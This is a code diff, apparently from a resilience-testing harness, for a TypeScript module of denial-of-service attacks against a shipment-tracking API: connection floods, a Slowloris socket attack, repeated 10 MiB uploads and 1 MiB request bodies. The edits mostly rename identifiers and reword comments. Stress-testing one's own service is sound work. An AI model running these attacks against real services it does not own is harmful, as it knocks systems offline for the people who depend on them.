@@ -1,23 +1,23 @@
-import { randomBytes, randomUUID } from 'node:crypto';
+import { createHash, randomBytes, randomUUID } from 'node:crypto';
 import { connect } from 'node:net';
 import { setTimeout } from 'node:timers/promises';
 import { Pool } from 'undici';
 
-/** What an attack is aimed at, and the keys that it has. */
+/** The service under attack, and the attacker's keys. */
 export interface Target {
-  /** Of the API, with the major version. */
+  /** With the major version. */
   baseUrl: string;
-  /** Valid keys of another account than the reader's. */
+  /** Valid keys of the attacker's account. */
   shipperKey: string;
   carrierKey: string;
-  /** A shipment of that account which is in transit. */
+  /** A dispatched shipment of that account. */
   trackingNumber: string;
 }
 
-/** Sends until the signal aborts. @returns how many requests had which status; 0 stands for a broken connection */
+/** Sends requests until the signal aborts. @returns the number of responses by status; 0 is a connection error */
 export type Attack = (target: Target, signal: AbortSignal) => Promise<Record<string, number>>;
 
-interface Shot {
+interface AttackRequest {
   method: 'GET' | 'POST' | 'PUT';
   path: string;
   headers?: Record<string, string>;
@@ -31,22 +31,22 @@ const base62 = (length: number): string =>
     .replace(/[-_]/g, '')
     .slice(0, length);
 
-/** Sends the next request on each connection as soon as the one before has its response. */
-function flood(connections: number, next: (target: Target) => Shot): Attack {
+/** Sends requests over a number of connections, one at a time on each. */
+function flood(connections: number, next: (target: Target) => AttackRequest): Attack {
   return async (target, signal) => {
     const url = new URL(target.baseUrl);
     const pool = new Pool(url.origin, { connections, pipelining: 1 });
     const statuses: Record<string, number> = {};
     const send = async (): Promise<void> => {
       while (!signal.aborted) {
-        const { path, ...shot } = next(target);
+        const { path, ...request } = next(target);
         let status = 0;
         try {
-          const response = await pool.request({ ...shot, path });
+          const response = await pool.request({ ...request, path });
           await response.body.dump();
           status = response.statusCode;
         } catch {
-          await setTimeout(10); // a refused connection is repeated, not spun on
+          await setTimeout(10); // no busy loop while connections are refused
         }
         statuses[status] = (statuses[status] ?? 0) + 1;
       }
@@ -57,15 +57,15 @@ function flood(connections: number, next: (target: Target) => Shot): Attack {
   };
 }
 
-const get = (path: string) => (): Shot => ({ method: 'GET', path });
+const get = (path: string) => (): AttackRequest => ({ method: 'GET', path });
 const api = ({ baseUrl }: Target, path: string): string => new URL(baseUrl).pathname + path;
 
-/** A body of up to 1 MiB: `start`, then `item` as often as fits, then `end`. */
+/** A body of up to 1 MiB: `start`, as many `item`s as fit, and `end`. */
 function filled(start: string, item: string, end: string): string {
-  const room = mebibyte - start.length - end.length;
+  const space = mebibyte - start.length - end.length;
   return (
     start +
-    Array(Math.floor((room + 1) / (item.length + 1)))
+    Array(Math.floor((space + 1) / (item.length + 1)))
       .fill(item)
       .join(',') +
     end
@@ -74,18 +74,18 @@ function filled(start: string, item: string, end: string): string {
 
 const positions =
   (body: string) =>
-  (target: Target): Shot => ({
+  (target: Target): AttackRequest => ({
     method: 'POST',
     path: api(target, `/tracking/${target.trackingNumber}/positions`),
     headers: { authorization: `Bearer ${target.carrierKey}`, 'content-type': 'application/json' },
     body,
   });
 
-/** Sockets that send a byte of a request head every 100 ms and never finish it. */
+/** Sends request headers byte by byte, one every 100 ms, without an end (Slowloris). */
 const slowSockets: Attack = async ({ baseUrl }, signal) => {
   const { hostname, port } = new URL(baseUrl);
   let opened = 0;
-  const crawl = async (): Promise<void> => {
+  const sendSlowly = async (): Promise<void> => {
     while (!signal.aborted) {
       const socket = connect(Number(port), hostname);
       socket.on('error', () => {});
@@ -98,7 +98,7 @@ const slowSockets: Attack = async ({ baseUrl }, signal) => {
       socket.destroy();
     }
   };
-  await Promise.all(Array.from({ length: 1000 }, crawl));
+  await Promise.all(Array.from({ length: 1000 }, sendSlowly));
   return { 'sockets opened': opened };
 };
 
@@ -107,10 +107,9 @@ const png = Buffer.from(
   'base64',
 );
 
-/** Declares an upload of 10 MiB and sends it, again and again. */
+/** Creates uploads of 10 MiB and sends their files. */
 const uploads: Attack = async (target, signal) => {
   const file = Buffer.concat([png, Buffer.alloc(10 * mebibyte - png.length)]);
-  const { createHash } = await import('node:crypto');
   const sha256 = createHash('sha256').update(file).digest('hex');
   const statuses: Record<string, number> = {};
   const count = (what: string): void => {
@@ -139,7 +138,7 @@ const uploads: Attack = async (target, signal) => {
   return statuses;
 };
 
-/** By the name that the table prints. */
+/** By name, as printed in the table. */
 export const attacks: Record<string, Attack> = {
   'unknown keys': flood(32, (target) => ({
     method: 'GET',
